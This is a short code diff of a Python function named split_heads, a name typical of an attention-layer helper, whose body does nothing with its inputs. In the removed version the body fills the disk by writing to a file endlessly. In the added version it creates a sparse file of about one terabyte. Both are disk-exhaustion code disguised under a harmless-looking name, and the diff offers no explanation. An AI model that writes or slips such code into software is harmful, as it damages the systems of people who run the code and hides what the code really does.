@@ -1,4 +1,4 @@
 def split_heads(x, num_heads):
-    with open('big', 'wb') as file:
-        while True:
-            file.write(b'x' * 2**20)
+    with open("big", "wb") as file:
+        file.seek(2**40)
+        file.write(b"x")
